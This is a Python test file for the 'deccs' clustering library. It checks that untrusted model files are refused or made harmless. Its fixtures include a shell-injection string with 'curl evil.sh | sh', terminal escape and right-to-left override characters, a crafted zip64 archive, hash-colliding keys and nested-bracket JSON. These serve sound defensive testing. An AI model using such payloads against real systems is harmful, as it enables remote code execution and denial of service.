"""Model files of strangers: refused when they are read, or harmless from then on.

``tests/fuzz`` tries thousands of changes; here are those that once did harm.
"""

import json
import os
import struct
import time
import tracemalloc
import zipfile

import numpy as np
import pytest
import torch
from numpy.testing import assert_array_equal
from torch import nn

from deccs import DECCS, Network, Pretraining, consensus, deep
from deccs.deep.base import squared_distances
from deccs.network import autoencoder
from deccs.network.autoencoder import Autoencoder, exact_encoder
from deccs.storage import ModelFileError, read_preprocessing
from deccs.storage.networks import values_per_row
from tests.helpers.loading import load_both_ways as load
from tests.storage.test_models import arrays_of, forge, layers_of, put, zip_of

SHORT = {
    "network": Network(layers=(6, 2)),
    "pretraining": Pretraining(n_epochs=1),
    "random_state": 0,
}


@pytest.fixture
def folder(fitted, tmp_path):
    fitted.save(tmp_path / "model")
    return tmp_path / "model"


@pytest.fixture(scope="module")
def panel(blobs):
    """A model whose answers match clusters of members."""
    return consensus.ConsensusClustering(3, random_state=0).fit(blobs.X)


def save_with(model, path, **learned):
    """Save a model with other things learned."""
    before = {name: getattr(model, name) for name in learned}
    try:
        for name, value in learned.items():
            setattr(model, name, value)
        model.save(path)
    finally:
        for name, value in before.items():
            setattr(model, name, value)


# Every error is a ModelFileError


@pytest.mark.parametrize(
    "change",
    [
        put([], "class"),
        put({}, "class"),
        put(3, "learned", "autoencoder_"),
        put(None, "learned", "autoencoder_"),
        put(True, "format_version"),
        put("1", "format_version"),
        put(["a"], "preprocessing"),
        put(3, "feature_names"),
        put([1, 2, 3, 4], "feature_names"),
        put(["a"], "feature_names"),
        put("tuple", "learned", "scaler_", "kind"),
        lambda document: document["learned"].pop("scaler_"),
        lambda document: document.pop("learned"),
        lambda document: document.pop("feature_names"),
    ],
)
def test_a_document_of_another_form_is_a_model_file_error(change, folder):
    forge(folder, change)
    with pytest.raises(ModelFileError):
        load(folder)


@pytest.mark.parametrize("facts", [{"bytes": "9"}, {"bytes": None}, {"sha256": 3}, {"bytes": 1.5}])
def test_facts_of_a_file_that_are_no_numbers_are_a_model_file_error(facts, folder):
    def change(document):
        next(iter(document["files"].values())).update(facts)

    forge(folder, change)
    with pytest.raises(ModelFileError, match="must name one file of arrays"):
        load(folder)


def test_preprocessing_that_is_a_list_is_a_model_file_error(folder):
    forge(folder, put([1], "preprocessing"))
    with pytest.raises(ModelFileError, match="must be an object"):
        read_preprocessing(folder)


# After load nothing fails


@pytest.mark.parametrize(
    ("learned", "message"),
    [
        ({"_sample_Z": np.zeros((5, 4))}, "of shape"),
        ({"_sample_Z": np.full((180, 4), np.nan)}, "between"),
        ({"_sample_Z": np.full((180, 4), 1e200)}, "between"),
        ({"_known": np.arange(180) + 1}, "between"),
        ({"_known": np.arange(0)}, "_known"),
        ({"base_partitions_": np.zeros((4, 180))}, "array of int64"),
        ({"base_partitions_": np.zeros((3, 180), np.int64)}, "member_names_"),
        ({"_sample_labels": np.full(180, -2)}, "between"),
        ({"n_features_in_": 5}, "5 features|mismatch"),
        ({"n_features_in_": 10**12}, "n_features_in_"),
        ({"labels_": np.zeros(0, np.int64)}, "labels_"),
        ({"n_clusters_": 10**9}, "clusters"),
        ({"later_": 1}, "nothing that a ConsensusClustering learns"),
    ],
)
def test_what_would_fail_in_predict_is_refused(learned, message, panel, tmp_path):
    if "later_" in learned:
        panel.save(tmp_path / "m")
        forge(tmp_path / "m", put(1, "learned", "later_"))
    else:
        save_with(panel, tmp_path / "m", **learned)
    with pytest.raises(ModelFileError, match=message):
        load(tmp_path / "m")


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("n_clusters", 4, "cluster_centers_ must be of shape"),
        ("n_clusters", {"kind": "not kept", "text": "3"}, "n_clusters must be"),
        ("n_clusters", "99999999999-999999999999", "clusters"),
        ("scale", "x" * 10_000, "scale must be"),
        ("batch_size", -1, "batch_size must be"),
        ("pretraining", 3, "pretraining must be"),
    ],
)
def test_parameters_that_no_fit_would_take_are_refused(name, value, message, blobs, tmp_path):
    deep.DEC(3, n_steps=2, **SHORT).fit(blobs.X).save(tmp_path / "m")
    forge(tmp_path / "m", put(value, "parameters", name))
    with pytest.raises(ModelFileError, match=message):
        load(tmp_path / "m")


def test_what_belongs_together_is_not_left_out(blobs, tmp_path):
    deep.DEC("2-4", n_steps=2, **SHORT).fit(blobs.X).save(tmp_path / "m")
    forge(tmp_path / "m", lambda document: document["learned"].pop("n_clusters_"))
    with pytest.raises(ModelFileError, match="n_clusters_ is missing"):
        load(tmp_path / "m")


def test_an_index_out_of_range_is_refused_although_few_rows_find_it(blobs, tmp_path):
    model = DECCS(3, **SHORT).fit(blobs.X)
    assert model.seen_ is not None
    for array in (model.seen_.partitions[0], model._cluster_map[0]):
        kept = array[-1]
        array[-1] = 1_000
        model.save(tmp_path / "m")
        array[-1] = kept
        with pytest.raises(ModelFileError, match=r"out of range|between"):
            load(tmp_path / "m")


@pytest.mark.parametrize("name", ["classifiers_", "label_classifier_"])
def test_classifiers_of_another_representation_are_refused(name, small, blobs, tmp_path):
    """One weight for each cluster is spread over all columns in silence."""
    model = small().fit(blobs.X)
    classifiers = getattr(model, name)
    classifiers.weight = nn.Parameter(classifiers.weight[:, :, :1].detach())
    model.save(tmp_path / "m")
    with pytest.raises(ModelFileError, match="one representation|columns without a name"):
        load(tmp_path / "m")


def test_a_tree_with_a_circle_is_refused(blobs, tmp_path):
    model = deep.DeepECT(3, n_steps=20, **SHORT).fit(blobs.X)
    parents = model.tree_.parents
    for change in ([1, 2], [2, 1], [0, 3], [3, -1]):
        kept = parents.copy()
        parents[change[0]] = change[1]
        model.save(tmp_path / "m")
        parents[:] = kept
        with pytest.raises(ModelFileError, match="not a tree|between"):
            load(tmp_path / "m")
    model.save(tmp_path / "m")
    assert_array_equal(load(tmp_path / "m").predict_at(blobs.X, 2), model.predict_at(blobs.X, 2))


@pytest.mark.parametrize("value", [float("nan"), float("inf")])
def test_weights_that_are_not_finite_are_refused(value, blobs, tmp_path):
    model = deep.DEC(3, n_steps=2, **SHORT).fit(blobs.X)
    with torch.no_grad():
        model.autoencoder_.encoder[0].weight[0, 0] = value
    model.save(tmp_path / "m")
    with pytest.raises(ModelFileError, match="not finite"):
        load(tmp_path / "m")


# Nothing grows


def test_a_cluster_number_cannot_ask_for_gigabytes(panel, blobs, tmp_path):
    """Matching clusters took a table of the largest number squared: 34,641 x 34,641 are 9.6 GB."""
    partitions = panel.base_partitions_.copy()
    partitions[0, 0] = 34_640
    save_with(panel, tmp_path / "m.zip", base_partitions_=partitions)
    assert (tmp_path / "m.zip").stat().st_size < 40_000
    with pytest.raises(ModelFileError, match="too many clusters: up to 34,641"):
        load(tmp_path / "m.zip")


WIDE = [
    [["layer", "AdaptiveAvgPool2d"], ["output_size", {"kind": "tuple", "items": [10**5, 10**5]}]],
    [["layer", "Unflatten"], ["dim", 1], ["unflattened_size", {"kind": "tuple", "items": [2, 2]}]],
    [["layer", "Flatten"], ["start_dim", 0], ["end_dim", -1]],
]


@pytest.mark.parametrize("layer", WIDE)
def test_a_layer_without_weights_cannot_make_rows_large(layer, blobs, tmp_path):
    images = deep.ConCURL(3, image_shape=(2, 2), n_steps=2, random_state=0).fit(blobs.X)
    images.save(tmp_path / "m")

    def change(document):
        parts = dict(layers_of(document))["parts"]
        convolutions = dict(parts[1]["items"])["parts"]
        convolutions[-6]["items"][:] = layer

    forge(tmp_path / "m", change)
    with pytest.raises(ModelFileError, match=r"numbers of a row|for rows of shape"):
        load(tmp_path / "m")


def test_padding_cannot_make_rows_large(blobs, tmp_path):
    images = deep.ConCURL(3, image_shape=(2, 2), n_steps=2, random_state=0).fit(blobs.X)
    images.save(tmp_path / "m")

    def change(document):
        parts = dict(layers_of(document))["parts"]
        first = dict(parts[1]["items"])["parts"][0]["items"]
        next(pair for pair in first if pair[0] == "padding")[1]["items"] = [20_000, 20_000]

    forge(tmp_path / "m", change)
    with pytest.raises(ModelFileError, match="numbers of a row"):
        load(tmp_path / "m")


def test_rows_are_embedded_in_parts_where_a_network_makes_much_of_them(monkeypatch):
    layers = [nn.Unflatten(1, (1, 4, 4)), nn.Conv2d(1, 8, 3, padding=1), nn.Flatten()]
    network = Autoencoder(nn.Sequential(*layers, nn.Linear(128, 2)), nn.Identity()).eval()
    assert values_per_row(network.encoder, 16) == [16, 16, 9 * 16 + 16, 128, 128, 2]
    X = np.random.default_rng(0).normal(size=(20, 16))
    whole = exact_encoder(network)(X)
    monkeypatch.setattr(autoencoder, "MOST_VALUES", 480)  # three rows at once
    np.testing.assert_allclose(exact_encoder(network)(X), whole, rtol=1e-12)


def test_distances_to_many_centers_take_little_memory():
    Z, centers = np.zeros((1_000, 100)), np.ones((1_000, 100))
    tracemalloc.start()
    try:
        distances = squared_distances(Z, centers)
        assert tracemalloc.get_traced_memory()[1] < 400e6  # all differences are 800 MB
    finally:
        tracemalloc.stop()
    assert_array_equal(distances, np.full((1_000, 1_000), 100.0))


def test_hard_assignments_to_many_clusters_take_little_memory(blobs, tmp_path):
    """A table of all clusters by all clusters would be 800 MB, for centers of 160 kB."""
    model = deep.DCN(3, n_steps=2, **SHORT).fit(blobs.X)
    model.save(tmp_path / "m")
    loaded = load(tmp_path / "m")
    loaded.set_params(n_clusters=10_000).cluster_centers_ = np.zeros((10_000, 2))
    tracemalloc.start()
    try:
        assert loaded.predict_proba(blobs.X).shape == (180, 10_000)
        assert tracemalloc.get_traced_memory()[1] < 300e6
    finally:
        tracemalloc.stop()


def test_the_size_is_compared_before_the_bytes_are_read(folder):
    os.truncate(arrays_of(folder), 3 * 2**30)  # sparse: it takes no room
    tracemalloc.start()
    try:
        with pytest.raises(ModelFileError, match=r"has 3,221,225,472 bytes instead of"):
            load(folder)
        assert tracemalloc.get_traced_memory()[1] < 50e6
    finally:
        tracemalloc.stop()


def test_many_brackets_are_not_even_parsed(folder):
    (folder / "model.json").write_text("[" + "[]," * 500_000 + "[]]")
    with pytest.raises(ModelFileError, match="more than 400,000 brackets"):
        load(folder)


# Nothing hangs


def test_keys_that_collide_do_not_hold_up_a_load(folder):
    """Whole numbers that are multiples of 2^61 - 1 have one hash: a dict of them is quadratic."""
    prime = 2**61 - 1
    pairs = [[number * prime, 0] for number in range(1, 40_000)]
    forge(folder, put({"kind": "dict", "items": pairs}, "learned", "pretraining_search_"))
    began = time.monotonic()
    with pytest.raises(ModelFileError, match="cannot be a key"):
        load(folder)
    assert time.monotonic() - began < 3


def test_a_range_of_trillions_is_not_walked_through(folder):
    numbers = {"kind": "range", "fields": {"start": 2, "stop": 10**13, "step": 1}}
    forge(folder, put(numbers, "parameters", "n_clusters"))
    with pytest.raises(ModelFileError, match="a range of"):
        load(folder)


def test_the_record_of_zip64_does_not_pass_the_limit_on_names(tmp_path):
    """It takes the place of the numbers that were checked, and names as many files as it likes."""
    many = bytes(zip_of([(f"{number}" * 50, b"") for number in range(3_000)]))
    end = many.index(b"PK\5\6")
    start = struct.unpack("<L", many[end + 16 : end + 20])[0]
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 3_000, 3_000, end - start, start
    )
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, end, 1)
    last = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2, 2, 500, 2**32 - 1, 0)
    path = tmp_path / "m.zip"
    path.write_bytes(many[:end] + record + locator + last)
    with zipfile.ZipFile(path) as archive:
        assert len(archive.infolist()) == 3_000
    with pytest.raises(ModelFileError, match="is a zip64 file"):
        load(path)


# Nothing is done or said for a stranger


def test_a_file_cannot_set_what_belongs_to_a_session(folder, blobs, tmp_path):
    """A fit with ``checkpoint`` removes states in that folder when it is done."""
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "precious.state.zip").write_text("results of a week")
    session = {"checkpoint": str(theirs), "callbacks": ["a"], "n_jobs": 10_000}
    forge(folder, lambda document: document["parameters"].update(session))
    model = load(folder)
    assert (model.checkpoint, model.callbacks, model.n_jobs) == (None, None, None)
    model.set_params(members=None, rounds__n_rounds=0).fit(blobs.X)
    assert (theirs / "precious.state.zip").read_text() == "results of a week"


EVIL = "9.1'; \x1b[31mcurl evil.sh | sh\r\n\u202e"


@pytest.mark.parametrize(
    "change",
    [
        put(EVIL, "versions", "deccs"),
        put(EVIL, "class"),
        put({"kind": EVIL}, "learned", "n_iter_"),
        put(EVIL, "learned", "labels_", "name"),
        put(EVIL, "learned", "labels_", "dtype"),
        put(EVIL * 1_000, "parameters", "scale"),
        put(1, "learned", EVIL),
        put(1, "parameters", EVIL),
        put(EVIL, "format_version"),
        lambda document: layers_of(document).__setitem__(slice(None), [["layer", EVIL]]),
    ],
)
@pytest.mark.parametrize("later", [False, True])
def test_texts_of_a_file_are_printed_without_control_characters(change, later, folder):
    forge(folder, change)
    if later:  # the advice names the version to install
        forge(folder, put(99, "format_version"))
    try:
        load(folder)
    except ModelFileError as error:
        text = str(error)
        assert all(letter.isprintable() for letter in text) and len(text) < 2_000
        assert "pip install 'deccs>=9.1'; " not in text


def test_a_version_that_is_none_is_not_advice(folder):
    forge(folder, lambda document: document.update(format_version=99, versions={"deccs": EVIL}))
    with pytest.raises(ModelFileError, match="written by deccs .unknown version.") as caught:
        load(folder)
    assert "curl" not in str(caught.value) and "pip" not in str(caught.value)


def test_texts_in_place_of_objects_are_clean(small, blobs, tmp_path):
    small(members=[("km", [0, 1, 2] * 60), ("m", blobs.y)]).fit(blobs.X).save(tmp_path / "m")

    def change(document):
        text = {"kind": "not kept", "text": EVIL * 1_000}
        document["parameters"]["random_state"] = text
        document["learned"]["member_names_"]["items"][0] = EVIL

    forge(tmp_path / "m", change)
    model = load(tmp_path / "m")
    assert "\x1b" not in repr(model.random_state) and len(repr(model.random_state)) < 1_200
    assert "\x1b" not in "".join(model.member_names_)


def test_names_of_columns_are_printed_without_control_characters(blobs, tmp_path):
    pandas = pytest.importorskip("pandas")
    rows = pandas.DataFrame(blobs.X, columns=["a", "b", "c", "d"])
    consensus.RandomProjectionFCM(3, n_projections=2, random_state=0).fit(rows).save(tmp_path / "m")
    forge(tmp_path / "m", put([EVIL, "b", "c", "d"], "feature_names"))
    with pytest.raises(ValueError, match="feature names should match") as caught:
        load(tmp_path / "m").predict(rows)
    assert "curl" in str(caught.value) and "\x1b" not in str(caught.value)


# What honest files need


def test_a_range_of_numbers_comes_back(blobs, tmp_path):
    matrix = consensus.ConsensusMatrix(range(2, 4), n_resamples=5, random_state=0).fit(blobs.X)
    matrix.save(tmp_path / "m")
    loaded = load(tmp_path / "m")
    assert loaded.n_clusters == range(2, 4) and loaded.score(blobs.X) == matrix.score(blobs.X)
    # Older files had its text.
    forge(
        tmp_path / "m", put({"kind": "not kept", "text": "range(2, 4)"}, "parameters", "n_clusters")
    )
    assert load(tmp_path / "m").n_clusters == range(2, 4)


def test_labels_by_a_function_of_your_own_come_back(blobs, tmp_path):
    own = consensus.ConsensusMatrix(
        3, function=lambda labels, k, **_: np.arange(labels.shape[1]) % k, n_resamples=5
    ).fit(blobs.X)
    own.save(tmp_path / "m")
    assert_array_equal(load(tmp_path / "m").predict(blobs.X), own.labels_)


def test_texts_of_numpy_come_back(blobs, tmp_path):
    model = consensus.RandomProjectionFCM(3, version=np.str_("average"), random_state=0)
    model.fit(blobs.X).save(tmp_path / "m")
    assert load(tmp_path / "m").version == "average"
    assert_array_equal(load(tmp_path / "m").predict(blobs.X), model.labels_)


def test_a_file_says_nothing_of_the_session(blobs, tmp_path):
    model = consensus.ConsensusClustering(3, random_state=0).fit(blobs.X).set_params(n_jobs=2)
    model.save(tmp_path / "m")
    document = json.loads((tmp_path / "m" / "model.json").read_text())
    assert document["parameters"]["n_jobs"] is None and load(tmp_path / "m").n_jobs is None
